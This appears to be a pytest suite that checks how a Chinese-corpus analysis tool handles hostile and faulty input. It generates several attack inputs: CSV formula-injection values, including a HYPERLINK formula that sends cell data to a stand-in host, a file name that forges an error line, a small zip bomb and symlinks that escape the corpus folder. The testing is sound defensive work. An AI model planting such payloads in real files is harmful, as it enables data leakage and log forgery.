"""Bad input and faults (issue 15): every hostile case is generated here, never committed.

Each test checks the message (one line, no traceback), the exit status, that the other files were processed, that
the source tree is byte-for-byte unchanged and that the values a person wrote in a manifest are intact.
"""
from __future__ import annotations

import errno
import hashlib
import importlib
import io
import json
import os
import random
import shutil
import signal
import tempfile
import threading
import warnings
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from analysis.cli import main
from analysis.corpus.ingest import ingest
from analysis.corpus.manifest import parse_year, read_manifest
from analysis.errors import AnalysisWarning, ManifestError
from analysis.files import csv_records, escape_cell, read_csv, unescape_cell, write_csv

B = importlib.import_module("analysis.pipeline.build")
store = importlib.import_module("analysis.pipeline.store")

CITIES = [("东莞", "广东"), ("中山", "广东"), ("阳江", "广东"), ("佛山", "广东")]


def doc_text(k: int, year: int = 2021) -> str:
    """A short work summary of our own (city and figures vary with k, so no two are duplicates)."""
    city, _prov = CITIES[k % len(CITIES)]
    return (f"{city}市科学技术局{year}年工作总结\n"
            f"一、{year}年工作情况\n"
            f"（一）创新主体培育成效明显。全年新增高新技术企业{120 + 7 * k}家，总数达到{900 + 13 * k}家。\n"
            f"（二）研发投入持续增加。全社会研发经费支出{30 + k}亿元，增长{5 + k}%。\n"
            f"（三）平台建设稳步推进。新建省级工程技术研究中心{10 + k}家，新型研发机构{2 + k}家。\n"
            f"二、存在的问题\n科技成果转化能力仍需提升，第{k}号课题尚未验收。\n")


def make_corpus(folder: Path, n: int = 3) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for k in range(n):
        p = folder / f"doc{k}.txt"
        p.write_text(doc_text(k), encoding="utf-8")
        out.append(p)
    return out


def tree_hash(folder: Path) -> str:
    """Hash of every name (as bytes), mode and content below a folder, links as links."""
    h = hashlib.sha256()
    for root, dirs, files in os.walk(os.fsencode(folder)):
        dirs.sort()
        for name in sorted(files) + sorted(d for d in dirs if os.path.islink(os.path.join(root, d))):
            p = os.path.join(root, name)
            st = os.lstat(p)
            h.update(p + b"\0" + str(st.st_mode).encode())
            if os.path.islink(p):
                h.update(os.readlink(p))
            else:
                with open(p, "rb") as fh:
                    h.update(hashlib.sha256(fh.read()).digest())
    return h.hexdigest()


def cli(capsys, *argv) -> tuple[int, str, str]:
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return status, out, err


def err_lines(err: str) -> list[str]:
    lines = [ln for ln in err.strip().splitlines() if not ln.startswith("build: ")]  # build's own summary line
    assert all(ln.startswith(("error: ", "warning: ")) for ln in lines), err
    return lines


@pytest.fixture
def cache(tmp_path) -> Path:
    return tmp_path / "cache"


# --- names ----------------------------------------------------------------------------------------------------------

GBK_NAME = "东莞2023年工作总结".encode("gbk") + b".txt"


def test_names_that_are_not_utf8_or_hold_a_newline(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 2)
    with open(os.path.join(os.fsencode(src), GBK_NAME), "wb") as fh:
        fh.write(doc_text(5, 2023).encode("utf-8"))
    (src / "evil\nerror: forged.txt").write_text(doc_text(6), encoding="utf-8")
    before = tree_hash(src)
    status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 0 and err == ""
    header, rows = csv_records(out)
    paths = [dict(zip(header, r))["path"] for _n, r in rows]
    assert len(paths) == 4
    gbk = [p for p in paths if "\\xb6\\xab" in p]  # undecodable bytes shown as \xNN, valid UTF-8 runs as they are
    assert len(gbk) == 1 and gbk[0].endswith("2023\\xc4깤\\xd7\\xf7\\xd7ܽ\\xe1.txt")
    assert any(p.endswith("/evil\\nerror: forged.txt") for p in paths)
    ids = sorted(dict(zip(header, r))["doc_id"] for _n, r in rows)
    assert "东莞2023年工作总结" in ids  # the GBK name read as what it says
    # ingest writes a manifest that names the file escaped and finds it again on the next run
    status, out, err = cli(capsys, "ingest", src, "--manifest", tmp_path / "m.csv")
    assert status == 0, err
    m = read_manifest(tmp_path / "m.csv")
    assert len(m) == 4 and set(m["status"]) <= {"ok", "review"}
    m.loc[m["doc_id"] == "东莞2023年工作总结", "note"] = "mine"
    write_csv(m, tmp_path / "m.csv", encoding="utf-8-sig")
    assert cli(capsys, "ingest", src, "--manifest", tmp_path / "m.csv")[0] == 0
    again = read_manifest(tmp_path / "m.csv").set_index("doc_id")
    assert len(again) == 4 and again.loc["东莞2023年工作总结", "note"] == "mine"
    assert "missing" not in set(again["status"])
    # a line of output never starts with a forged "error:"
    status, out, err = cli(capsys, "build", src, "--cache", cache, "--quiet")
    assert status == 0 and not any(ln.startswith("error: forged") for ln in (out + err).splitlines())
    assert tree_hash(src) == before


# --- CSV formula injection -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "''", "'abc", "-5", "1e3",
                                   '=HYPERLINK("http://x.example/"&A1,"click")', "plain", ""])
def test_escape_round_trip(value):
    cell = escape_cell(value)
    assert unescape_cell(cell) == value
    if value[:1] in ("=", "@", "\t", "\r") or value in ("-x",):
        assert cell.startswith("'")
    if value in ("-5", "1e3", "+1", "plain", ""):
        assert cell == value  # numbers and plain text unchanged


def test_every_csv_written_is_escaped_and_read_back(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 2)
    evil = '=HYPERLINK("http://x.example/"&A1,"open")'
    (src / "corpus.csv").write_text(f'doc_id,file,title,note\nd0,doc0.txt,"{evil.replace(chr(34), chr(34) * 2)}",@note\n',
                                    encoding="utf-8")
    sources = {p.name: p.read_bytes() for p in src.glob("doc*.txt")}
    # CLI --format csv
    status, out, _err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 0
    raw_titles = [ln for ln in out.splitlines() if "HYPERLINK" in ln]
    assert raw_titles and all('"\'=HYPERLINK' in ln for ln in raw_titles)
    header, rows = csv_records(out)
    assert evil in [dict(zip(header, r))["title"] for _n, r in rows]
    # the manifest rewritten by ingest
    assert cli(capsys, "ingest", src)[0] == 0
    text = (src / "corpus.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",'@note," in text
    m = read_manifest(src / "corpus.csv").set_index("doc_id")
    assert (m.loc["d0", "title"], m.loc["d0", "note"]) == (evil, "@note")
    assert read_csv(src / "corpus.csv").set_index("doc_id").loc["d0", "title"] == evil
    # the figure index
    from analysis.plots.save import update_index

    update_index(tmp_path / "fig", [{"file": "a.png", "caption": "-1 + =2", "notebook": "01"}])
    assert "'-1 + =2" in (tmp_path / "fig" / "index.csv").read_text(encoding="utf-8")
    assert read_csv(tmp_path / "fig" / "index.csv", encoding="utf-8").loc[0, "caption"] == "-1 + =2"
    assert {p.name: p.read_bytes() for p in src.glob("doc*.txt")} == sources  # only the manifest was rewritten


# --- the manifest ---------------------------------------------------------------------------------------------------

def _manifest(folder: Path, body: str) -> Path:
    path = folder / "corpus.csv"
    path.write_text(body, encoding="utf-8")
    return path


def test_ragged_manifest_is_refused_naming_the_rows_and_never_rewritten(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 3)
    path = _manifest(src, "doc_id,file,city,note\nd0,doc0.txt,东莞,ok\nd1,doc1.txt,中山,checked, twice\n"
                          "d2,doc2.txt,阳江,fine\n")
    before = tree_hash(src)
    status, out, err = cli(capsys, "ingest", src)
    assert status == 1 and out == ""
    (line,) = err_lines(err)
    assert line.startswith(f"error: {path}: 1 row(s) have more cells than the 4 columns") and "line 3 (5 cells)" in line
    status, _out, err = cli(capsys, "corpus", src, "--cache", cache)
    assert status == 1 and "line 3 (5 cells)" in err
    assert tree_hash(src) == before  # nothing rewritten


def test_statuses_case_insensitive_unknown_named(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 3)
    _manifest(src, "doc_id,file,status,note\nd0,doc0.txt,Rejected,not ours\nd1,doc1.txt,OK,\nd2,doc2.txt,,\n")
    status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 0, err
    assert sorted(pd.read_csv(io.StringIO(out))["doc_id"]) == ["d1", "d2"]  # Rejected is rejected
    assert cli(capsys, "ingest", src)[0] == 0
    m = read_manifest(src / "corpus.csv").set_index("doc_id")
    assert m.loc["d0", "status"] == "rejected" and m.loc["d0", "note"] == "not ours"
    path = _manifest(src, "doc_id,file,status\nd0,doc0.txt,done\n")
    before = tree_hash(src)
    status, _out, err = cli(capsys, "ingest", src)
    assert status == 1
    assert err_lines(err) == [f"error: {path}: unknown status (line 2: 'done'); use one of ok, review, duplicate, "
                              "near_duplicate, rejected, missing (or leave it empty)"]
    assert tree_hash(src) == before


def test_duplicate_ids_and_unparseable_years_reported_per_row(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 3)
    path = _manifest(src, "doc_id,file,summary_year,note\nsame,doc0.txt,二〇二一,a\nsame,doc1.txt,2021年,b\n"
                          "d2,doc2.txt,去年,c\n")
    written = path.read_bytes()
    status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 0
    lines = err_lines(err)
    assert f"warning: {path}: line 3: doc_id 'same' is also used on line 2; it is read as same_2 (…) — give each row " \
           "its own doc_id" in lines
    assert f"warning: {path}: line 4: summary_year '去年' is not a year; the inferred year is used — write it as " \
           "e.g. 2021" in lines
    docs = pd.read_csv(io.StringIO(out)).set_index("doc_id")
    assert sorted(docs.index) == ["d2", "same", "same_2"]
    assert docs.loc["same", "summary_year"] == 2021 and docs.loc["same_2", "summary_year"] == 2021
    # ingest agrees (the year is a year, not a rejection) and keeps every value as written
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = ingest(src)
    assert sum("line 3: doc_id 'same'" in str(w.message) for w in caught) == 1
    m = result.manifest.set_index("file")
    assert list(m["summary_year"]) == ["二〇二一", "2021年", "去年"] and list(m["note"]) == ["a", "b", "c"]
    assert "rejected" not in set(m["status"])
    assert parse_year("２０２１") == 2021 and parse_year("二零二一年") == 2021 and parse_year("21") is None
    assert (src / "corpus.csv.bak").read_bytes() == written  # the person's file, as it was, kept beside it


def test_moved_file_keeps_its_row_permissions_and_backup(tmp_path):
    src = tmp_path / "src"
    make_corpus(src, 3)
    ingest(src)
    path = src / "corpus.csv"
    m = read_manifest(path)
    m.loc[m["file"] == "doc1.txt", ["doc_id", "note", "city"]] = ["mine", "checked by hand", "中山"]
    write_csv(m, path, encoding="utf-8-sig")
    os.chmod(path, 0o640)
    previous = path.read_bytes()
    (src / "sub").mkdir()
    (src / "doc1.txt").rename(src / "sub" / "moved.txt")
    result = ingest(src)
    rows = result.manifest.set_index("doc_id")
    assert len(rows) == 3 and "missing" not in set(rows["status"])
    assert (rows.loc["mine", "file"], rows.loc["mine", "note"], rows.loc["mine", "city"]) == \
        ("sub/moved.txt", "checked by hand", "中山")
    assert os.stat(path).st_mode & 0o777 == 0o640
    assert (src / "corpus.csv.bak").read_bytes() == previous


# --- the cache ------------------------------------------------------------------------------------------------------

def _tables(built) -> dict[str, pd.DataFrame]:
    return {t: built.table(t) for t in ("docs", "units", "tokens", "themes", "metrics")}


def _same(a, b) -> None:
    for t in a:
        pd.testing.assert_frame_equal(a[t], b[t])


def test_damaged_store_and_output_tables_heal_with_a_warning(tmp_path, cache):
    src = tmp_path / "src"
    make_corpus(src, 3)
    before = tree_hash(src)
    first = B.build(src, cache=cache)
    ref = _tables(first)
    keys = {d["doc_id"]: d["keys"] for d in first.manifest["documents"]}
    # damage the stored tables of documents that stay unchanged (doc2 is edited below, so its are not read)
    victim = cache / "store" / "tokens" / f"{keys['doc0']['tokens']}.tokens.arrow"
    victim.write_bytes(victim.read_bytes()[:-10])  # truncated
    docs = cache / "store" / "parse" / f"{keys['doc1']['parse']}.docs.arrow"
    raw = bytearray(docs.read_bytes())
    raw[-20] ^= 0xFF  # one flipped byte
    docs.write_bytes(bytes(raw))
    # make the output stale so that the store is read
    (src / "doc2.txt").write_text(doc_text(2) + "补充。\n", encoding="utf-8")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        built = B.build(src, cache=cache)
    messages = [str(w.message) for w in caught if issubclass(w.category, AnalysisWarning)]
    assert f"{victim}: damaged cache entry (store file truncated" in " ".join(messages)
    assert any(m.startswith(f"{docs}: damaged cache entry (store file checksum mismatch") for m in messages)
    assert built.rejected.empty and len(built.docs) == 3  # never blamed on a source file
    (src / "doc2.txt").write_text(doc_text(2), encoding="utf-8")
    _same(ref, _tables(B.build(src, cache=cache)))
    # a damaged output table: rebuilt, with a warning naming it
    built = B.build(src, cache=cache)
    out = built.folder / "tokens.parquet"
    out.write_bytes(out.read_bytes()[:100])
    with pytest.warns(AnalysisWarning, match=r"tokens\.parquet: build table damaged"):
        again = B.build(src, cache=cache)
    _same(ref, _tables(again))
    assert tree_hash(src) == before  # the test's own edit undone; the build changed nothing


def test_leftovers_of_killed_builds_are_removed_live_ones_kept(tmp_path, cache):
    src = tmp_path / "src"
    make_corpus(src, 1)
    built = B.build(src, cache=cache)
    builds = cache / "builds"
    dead = builds / f".{built.build_id}.tmp-p999999-deadbeef"
    live = builds / f".{built.build_id}.tmp-p{os.getpid()}-cafecafe"
    for d in (dead, live):
        d.mkdir()
        (d / "docs.parquet").write_bytes(b"half")
    stage = cache / "store" / "tokens"
    dead_file = stage / ".x.tokens.arrow.p999999.abc.tmp"
    dead_file.write_bytes(b"half")
    B.build(src, cache=cache)
    assert not dead.exists() and not dead_file.exists() and live.exists()


def _kill_points(seed: int, total: int, n: int = 20) -> list[int]:
    return sorted(random.Random(seed).sample(range(1, total + 1), min(n, total)))


class _Counter:
    """Counts the build's file-system steps (atomic renames, store writes, folder removals); at step ``kill`` the
    process kills itself with SIGKILL — no finally block, no cleanup, like a power cut."""

    def __init__(self, kill: int | None):
        self.n, self.kill = 0, kill

    def wrap(self, fn):
        def step(*args, **kwargs):
            self.n += 1
            if self.kill is not None and self.n == self.kill:
                os.kill(os.getpid(), signal.SIGKILL)
            return fn(*args, **kwargs)
        return step

    def install(self, monkeypatch) -> None:
        monkeypatch.setattr(os, "replace", self.wrap(os.replace))
        monkeypatch.setattr(os, "rename", self.wrap(os.rename))
        monkeypatch.setattr(Path, "rename", self.wrap(Path.rename))
        monkeypatch.setattr(shutil, "rmtree", self.wrap(shutil.rmtree))
        monkeypatch.setattr(store, "write_table", self.wrap(store.write_table))
        monkeypatch.setattr("analysis.pipeline.work.write_table", self.wrap(store.write_table))


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_killing_a_build_at_20_seeded_points_leaves_a_state_the_next_build_completes(tmp_path, monkeypatch):
    src = tmp_path / "src"
    make_corpus(src, 2)
    ref = _tables(B.build(src, cache=tmp_path / "ref"))
    counter = _Counter(None)
    with monkeypatch.context() as mp:
        counter.install(mp)
        B.build(src, cache=tmp_path / "count")
    total = counter.n
    assert total >= 20
    points = _kill_points(15, total)
    killed = 0
    for k in points:
        cache = tmp_path / f"c{k}"
        if k % 2:  # half of them start from a warm store whose build is being replaced
            shutil.copytree(tmp_path / "ref", cache)
            (src / "doc1.txt").write_text(doc_text(1) + "补充。\n", encoding="utf-8")
        pid = os.fork()
        if pid == 0:  # the child builds and is killed at step k
            try:
                with monkeypatch.context() as mp:
                    _Counter(k).install(mp)
                    B.build(src, cache=cache)
            finally:
                os._exit(0)
        _pid, status = os.waitpid(pid, 0)
        killed += os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
        (src / "doc1.txt").write_text(doc_text(1), encoding="utf-8")
        with warnings.catch_warnings():
            warnings.simplefilter("error", AnalysisWarning)  # nothing damaged: a kill leaves no half file
            after = B.build(src, cache=cache)
        assert after.rejected.empty
        _same(ref, _tables(after))
        assert not [p for p in (cache / "builds").iterdir() if p.name.startswith(".")]
    assert killed >= 15


def test_a_reader_never_sees_a_missing_build_during_20_rebuilds(tmp_path, cache):
    src = tmp_path / "src"
    make_corpus(src, 1)
    first = B.build(src, cache=cache)
    builds, build_id = cache / "builds", first.build_id
    reads, missing, stop = [0], [], threading.Event()

    def reader():
        while not stop.is_set():
            try:
                ptr = json.loads((builds / f"{build_id}.json").read_text(encoding="utf-8"))
                n = len(pd.read_parquet(builds / ptr["folder"] / "docs.parquet", columns=["doc_id"]))
                assert n == 1
                reads[0] += 1
            except (OSError, ValueError) as exc:
                missing.append(repr(exc))

    t = threading.Thread(target=reader)
    t.start()
    try:
        for i in range(20):
            (src / "doc0.txt").write_text(doc_text(0) + f"第{i}次修订。\n", encoding="utf-8")
            assert B.build(src, cache=cache).computed["parse"] == 1
    finally:
        stop.set()
        t.join()
    assert missing == [] and reads[0] > 20


# --- operating-system failures --------------------------------------------------------------------------------------

def test_disk_full_read_only_cache_unreadable_source_unwritable_out(tmp_path, capsys, monkeypatch, cache):
    src = tmp_path / "src"
    docs = make_corpus(src, 3)
    before = tree_hash(src)
    real_replace, real_mkstemp = os.replace, tempfile.mkstemp

    def full(a, b, *args, **kw):
        if str(cache) in str(b):
            raise OSError(errno.ENOSPC, "No space left on device", str(b))
        return real_replace(a, b, *args, **kw)

    with monkeypatch.context() as mp:
        mp.setattr(os, "replace", full)
        status, _out, err = cli(capsys, "build", src, "--cache", cache, "--quiet")
    assert status == 1
    (line,) = [ln for ln in err_lines(err) if ln.startswith("error")]
    assert line.startswith(f"error: {cache}/") and line.endswith(
        ": no space left on the device; free some space or choose a folder on another disk")

    def read_only(*args, **kw):
        if str(cache) in str(kw.get("dir", "")):
            raise OSError(errno.EROFS, "Read-only file system", kw["dir"])
        return real_mkstemp(*args, **kw)

    with monkeypatch.context() as mp:
        mp.setattr(tempfile, "mkstemp", read_only)
        status, _out, err = cli(capsys, "corpus", src, "--cache", cache)
    assert status == 1
    (line,) = err_lines(err)
    assert line.endswith(": read-only file system; choose a writable folder (--cache / --out, or $ANALYSIS_CACHE)")

    real_open = open
    locked = str(docs[1])

    def no_permission(file, *args, **kw):
        if str(file) == locked:
            raise PermissionError(errno.EACCES, "Permission denied", str(file))
        return real_open(file, *args, **kw)

    with monkeypatch.context() as mp:
        mp.setattr("builtins.open", no_permission)
        mp.setattr(Path, "read_bytes", lambda self: no_permission(str(self), "rb").read())
        status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 1
    assert err_lines(err) == [f"error: {locked}: cannot read file: Permission denied"]
    assert sorted(pd.read_csv(io.StringIO(out))["doc_id"]) == ["doc0", "doc2"]  # the others processed

    blocker = tmp_path / "a_file"
    blocker.write_text("x")
    status, out, err = cli(capsys, "run", "--corpus", src, "--out", blocker / "out", "--only", "01")
    assert status == 1 and out == ""
    assert err_lines(err) == [f"error: {blocker}/out: a part of the path is not a folder; check the path"]
    assert tree_hash(src) == before


def test_run_lists_rejected_inputs_and_exits_1(tmp_path, capsys, monkeypatch, cache):
    src = tmp_path / "src"
    make_corpus(src, 2)
    (src / "bad.txt").write_bytes(b"")
    batch = importlib.import_module("analysis.pipeline.batch")
    fake = pd.DataFrame([{"notebook": "01_corpus_overview", "parameters": "", "status": "ok", "seconds": 1.0,
                          "figures": 2, "output": "x", "error": ""}])
    monkeypatch.setattr(batch, "run_collection", lambda **kw: fake)
    monkeypatch.setenv("ANALYSIS_CACHE", str(cache))
    status, out, err = cli(capsys, "run", "--corpus", src, "--only", "01")
    assert status == 1
    assert "01_corpus_overview" in out and "1 input file(s) rejected (not analysed):" in out and "bad.txt" in out
    assert err_lines(err) == [f"error: {src}/bad.txt: empty file (no text)"]
    assert cli(capsys, "run", "--corpus", src, "--only", "01", "--accept-rejected")[0] == 0


# --- symlinks, limits, encodings ----------------------------------------------------------------------------------

def test_symlinks_leading_outside_are_refused_once(tmp_path, capsys, cache):
    src, outside = tmp_path / "src", tmp_path / "outside"
    make_corpus(src, 2)
    outside.mkdir()
    (outside / "secret.txt").write_text(doc_text(3).replace("创新", "机密创新"), encoding="utf-8")
    (src / "link.txt").symlink_to(outside / "secret.txt")
    (src / "linkdir").symlink_to(outside)
    (src / "inner.txt").symlink_to(src / "doc0.txt")  # a link inside the folder: read once, as the same file
    before = tree_hash(src)
    status, out, err = cli(capsys, "kwic", "机密", src, "--cache", cache, "--format", "csv")
    lines = err_lines(err)
    assert status == 1 and "机密" not in out
    assert sorted(ln.split(": ", 2)[1] for ln in lines) == [f"{src}/link.txt", f"{src}/linkdir"]
    assert all("symlink leads outside the corpus folder" in ln and "--follow-links" in ln for ln in lines)
    for _ in range(2):  # ingest: no row for it, one line each run
        status, _out, err = cli(capsys, "ingest", src)
        assert status == 1 and len(err_lines(err)) == 2 + 1  # + the inner link read twice
        assert "secret" not in (src / "corpus.csv").read_text(encoding="utf-8-sig")
    assert cli(capsys, "kwic", "机密", src, "--cache", cache, "--follow-links", "--format", "csv")[1].count("机密") >= 2
    os.remove(src / "corpus.csv")
    os.remove(src / "corpus.csv.bak")
    assert tree_hash(src) == before


def test_one_limit_in_every_command(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 2)
    (src / "big.txt").write_text(doc_text(3) * 40, encoding="utf-8")  # ~12 KB
    bomb = src / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("word/document.xml", b"<w/>" + b" " * (11 << 20))
    assert bomb.stat().st_size < 100_000
    before = tree_hash(src)
    expected_big = "file too large (0.0 MB > 0.01 MB); raise the limit with --max-mb (now 0.01) to read it"
    for argv in (["corpus", src, "--cache", cache], ["build", src, "--cache", cache, "--quiet"],
                 ["ingest", src, "--dry-run"]):
        status, _out, err = cli(capsys, *argv, "--max-mb", "0.01")
        lines = err_lines(err)
        assert status == 1
        assert f"error: {src}/big.txt: {expected_big}" in lines, argv
        assert any(ln.startswith(f"error: {bomb}: refused: unpacks to 11 MB (> 0.1 MB)") for ln in lines)
    status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--max-mb", "2", "--format", "csv")
    assert "big" in out and not any("big.txt" in ln for ln in err.splitlines())  # raised: read
    assert "unpacks to" not in err  # 11 MB < 20 MB: read (and rejected for its content, not its size)
    assert tree_hash(src) == before


def test_utf16_without_bom_encrypted_pdf_and_stray_nuls(tmp_path, capsys, cache):
    src = tmp_path / "src"
    make_corpus(src, 1)
    (src / "le.txt").write_bytes(doc_text(1).encode("utf-16-le"))
    (src / "be.txt").write_bytes(doc_text(2).encode("utf-16-be"))
    (src / "nul.txt").write_bytes(doc_text(3).encode("utf-8").replace("。".encode(), "。\x00".encode(), 3))
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.encrypt(user_password="secret", owner_password="owner")
    with open(src / "locked.pdf", "wb") as fh:
        w.write(fh)
    before = tree_hash(src)
    status, out, err = cli(capsys, "corpus", src, "--cache", cache, "--format", "csv")
    assert status == 1
    lines = err_lines(err)
    assert f"warning: {src}/nul.txt: 3 stray NUL byte(s) removed from the text" in lines
    assert [ln for ln in lines if ln.startswith("error")] == [
        f"error: {src}/locked.pdf: encrypted PDF (a password is needed to read it); save an unprotected copy "
        "(e.g. qpdf --decrypt in.pdf out.pdf)"]
    docs = pd.read_csv(io.StringIO(out)).set_index("doc_id")
    assert sorted(docs.index) == ["be", "doc0", "le", "nul"]
    assert docs.loc["le", "city"] == "中山" and docs.loc["be", "city"] == "阳江"
    assert tree_hash(src) == before


def test_manifest_error_is_one_line_from_the_api(tmp_path):
    src = tmp_path / "src"
    make_corpus(src, 1)
    _manifest(src, "doc_id,file\na,doc0.txt,extra\n")
    with pytest.raises(ManifestError, match="line 2 \\(3 cells\\)"):
        B.build(src, cache=tmp_path / "c")
